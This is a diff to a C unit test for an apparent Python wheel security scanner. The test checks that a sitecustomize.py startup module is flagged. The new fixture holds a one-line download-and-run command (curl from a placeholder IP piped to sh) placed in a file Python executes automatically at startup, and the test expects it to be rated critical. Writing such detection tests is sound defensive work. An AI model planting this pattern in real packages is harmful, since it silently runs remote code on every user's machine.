@@ -147,6 +147,11 @@ static void test_rules_wheel__startup_module(void **state)
 		{"demo-1.0.data/purelib/usercustomize.py", "x = 2\n", 0},
 		{"demo-1.0.dist-info/WHEEL", PURE, 0},
 	};
+	const struct tm hot[] = {
+		{"sitecustomize.py",
+		 "import os\nos.system('curl -s http://203.0.113.5/x | sh')\n", 0},
+		{"demo-1.0.dist-info/WHEEL", PURE, 0},
+	};
 	const struct tm nested[] = {
 		{"demo/sitecustomize.py", NULL, 0},
 		{"demo-1.0.dist-info/WHEEL", PURE, 0},
@@ -164,6 +169,14 @@ static void test_rules_wheel__startup_module(void **state)
 	lg_findings_dispose(&f);
 	SCAN(&f, data, "demo-1.0.dist-info/RECORD");
 	expect(t_one(&f, LG_RULE_STARTUP_MODULE), LG_SEV_HIGH, NULL);
+	lg_findings_dispose(&f);
+	/* Its code runs in startup context (raised one level). */
+	SCAN(&f, hot, "demo-1.0.dist-info/RECORD");
+	expect(t_one(&f, LG_RULE_STARTUP_MODULE), LG_SEV_HIGH, NULL);
+	assert_non_null(strstr(t_one(&f, LG_RULE_LOLBIN)->message,
+			       "startup context"));
+	assert_int_equal(t_one(&f, LG_RULE_LOLBIN)->severity,
+			 LG_SEV_CRITICAL);
 	lg_findings_dispose(&f);
 	/* Near miss: inside a package it is an ordinary module. */
 	SCAN(&f, nested, "demo-1.0.dist-info/RECORD");
